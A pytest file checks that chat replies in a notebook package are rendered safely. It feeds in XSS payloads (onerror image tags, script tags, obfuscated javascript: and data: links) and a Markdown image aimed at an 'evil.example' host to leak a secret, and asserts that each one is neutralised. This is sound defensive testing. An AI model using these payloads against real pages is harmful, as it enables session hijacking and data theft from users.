"""How a Reply shows (`nbchat.core.render`): sanitized HTML plus the Markdown source as plain
text; its footer, tool calls, errors and images. The pipeline itself: tests/test_markdown.py."""

import base64
import re

import pytest
from htmlcheck import hrefs, problems, visible_text
from xss_corpus import CORPUS, ISSUE_EXAMPLES

from nbchat.core.errors import ProviderError
from nbchat.core.markdown import render_html
from nbchat.core.render import footer
from nbchat.core.types import ImagePart, Reply, ToolCall, Usage


def shown(reply: Reply) -> str:
    bundle, metadata = reply._repr_mimebundle_()
    assert set(bundle) == {"text/html", "text/plain"}  # nothing for a second Markdown parser
    assert set(metadata) == {"nbchat"}  # provenance, not content
    assert problems(bundle["text/html"]) == [], bundle["text/html"]
    return bundle["text/html"]


def test_raw_html_is_shown_as_text():
    out = shown(Reply('hi <img src=x onerror="alert(1)"> <script>alert(2)</script>', "m"))
    assert "<img" not in out and "<script" not in out
    assert '<img src=x onerror="alert(1)">' in visible_text(out)


def test_code_is_left_as_written():
    text = "Use `<b>` tags:\n\n```html\n<script>x()</script>\n```\nafter <i>"
    out = shown(Reply(text, "m"))
    assert "<code>&lt;b&gt;</code>" in out
    assert '<code class="language-html">&lt;script&gt;x()&lt;/script&gt;\n</code>' in out
    assert "after <i>" in visible_text(out)


def test_unclosed_fence_stays_code():
    out = render_html("```\n<b>")
    assert "<pre><code>&lt;b&gt;</code></pre>" in out


def test_javascript_links_are_neutralised():
    for target in ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "<java\tscript:x>",
                   "&#106;avascript:x", "<data:text/html,<b>>", "vbscript:x"):
        out = shown(Reply(f"[click]({target})", "m"))
        assert hrefs(out) == [], (target, out)
        assert "click" in visible_text(out)
    assert hrefs(shown(Reply("[a][1]\n\n[1]: javascript:alert(1)", "m"))) == []
    assert hrefs(shown(Reply("[ok](https://example.com/x)", "m"))) == ["https://example.com/x"]


def test_remote_images_become_links():
    out = shown(Reply("![leak](https://evil.example/?q=secret)", "m"))
    assert "<img" not in out
    assert hrefs(out) == ["https://evil.example/?q=secret"]


def test_footer_figures():
    r = Reply(text="x", model="llamacpp:smollm2", usage=Usage(12, 40),
              time_to_first_token=0.25, duration=1.25)
    assert footer(r) == "llamacpp:smollm2 · 12 in / 40 out tokens · first token 0.25 s · 40.0 tok/s"
    out = shown(r)
    assert out.startswith('<div class="nbchat-reply">' + render_html("x"))
    assert "<sub>" + footer(r) + "</sub>" in out
    assert r._repr_mimebundle_()[0]["text/plain"] == "x"


@pytest.mark.parametrize("text", [
    "`<img src=x onerror=alert(1)>``",  # a run of two does not close a run of one
    "`a\n\n<img src=x onerror=alert(1)>\n\nb`",  # a code span ends at a blank line
    "`a\n<script>alert(1)</script>`",  # an HTML block may interrupt a paragraph
    "x `a\nb` <img src=x onerror=1> `c`",
    "\\`<img src=x onerror=alert(1)>`",  # an escaped backtick opens nothing
    "```x`\n<img src=x onerror=alert(1)>\n```",  # not a fence: info string with a backtick
    "- a\n  ```\n<img src=x onerror=alert(1)>\n",  # the list item, and its fence, ended
])
def test_no_raw_html_where_a_renderer_reads_the_text_differently(text):
    out = shown(Reply(text, "m"))
    assert not re.findall(r"<(?:img|script)", out), out


def test_code_spans_with_markup_stay_readable_code():
    out = render_html("`<b>` and `[x](javascript:alert(1))`")
    assert "<code>&lt;b&gt;</code>" in out and "<code>[x](javascript:alert(1))</code>" in out
    assert render_html("use `print(x)` here").count("<code>print(x)</code>") == 1


def test_tool_calls_from_the_model_cannot_inject_html():
    call = ToolCall("f`<img src=x onerror=alert(1)>`", {"a": "`<script>x()</script>`"})
    out = shown(Reply(text="", model="m", tool_calls=[call]))
    assert "Tool calls" in visible_text(out)
    assert 'f`<img src=x onerror=alert(1)>`({"a": "`<script>x()</script>`"})' in visible_text(out)


def test_error_text_cannot_make_links_or_images():
    out = shown(Reply(model="m", error=ProviderError("see ![x](https://evil/?q=1) [y](javascript:z)"
                                                     " <img src=x onerror=alert(1)>")))
    assert hrefs(out) == [] and "<img" not in out
    assert "see ![x](https://evil/?q=1) [y](javascript:z) <img src=x" in visible_text(out)


def test_reply_images_show_inline_from_data_urls():
    import io

    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", (3, 2), (0, 0, 255)).save(buf, format="PNG")
    out = shown(Reply(text="here", model="m", image_parts=[ImagePart(buf.getvalue())]))
    src = re.findall(r'<img class="nbchat-image" alt="image" src="([^"]+)"', out)
    assert src == ["data:image/png;base64," + base64.b64encode(buf.getvalue()).decode()]


@pytest.mark.parametrize("marker", ISSUE_EXAMPLES)
def test_issue_examples_in_a_displayed_reply(marker):
    """Issue 10: a lax closing fence, an indented fence and reference definitions made live
    HTML or javascript: links in a displayed Reply."""
    payload = dict(CORPUS)[marker]
    out = shown(Reply(payload, "m"))
    assert not re.findall(r"<(?:img|script)\b", out), out  # shown as text: &lt;img ...
    assert not any(h.lower().startswith("javascript") for h in hrefs(out))
    assert marker in visible_text(out)


def test_footer_says_a_reply_was_cut_and_gives_no_rate_for_a_few_tokens():
    """A reply that stopped at max_tokens says so under it; a rate from one or two tokens (a
    refusal, a cut stream: 11,993 tok/s) is not shown."""
    from nbchat.core.render import footer
    from nbchat.core.types import Reply, Usage

    cut = Reply(text="Once upon a", model="m", finish_reason="length", usage=Usage(5, 3),
                duration=0.5, time_to_first_token=0.2)
    assert "cut at the token limit (max_tokens)" in footer(cut) and "10.0 tok/s" in footer(cut)
    blip = Reply(text="No.", model="m", finish_reason="stop", usage=Usage(5, 2),
                 duration=0.2002, time_to_first_token=0.2)
    assert blip.tokens_per_second is None and "tok/s" not in footer(blip)
    assert "cut at" not in footer(blip)
